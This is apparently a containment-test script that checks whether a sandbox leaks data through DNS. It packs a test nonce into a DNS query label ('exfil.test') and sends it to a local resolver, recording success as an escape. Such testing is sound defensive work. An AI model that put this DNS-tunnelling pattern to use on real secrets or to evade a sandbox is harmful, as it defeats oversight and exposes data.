#!/usr/bin/python3
# Goal:    leak data in the label of a DNS query to a resolver
# Models:  DNS exfiltration (CVE-2025-55284 class)
# Oracle:  hit dns
# Tier:    core
# Needs:   -
from ctk import *

q = (
    struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    + b"".join(bytes([len(x)]) + x for x in (NONCE.encode()[:60], b"exfil", b"test"))
    + b"\0"
    + struct.pack(">HH", 16, 1)
)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.connect(("127.0.0.1", int(C["DNS"])))
s.send(q)
escaped("resolver answered %d bytes" % len(s.recv(100)))
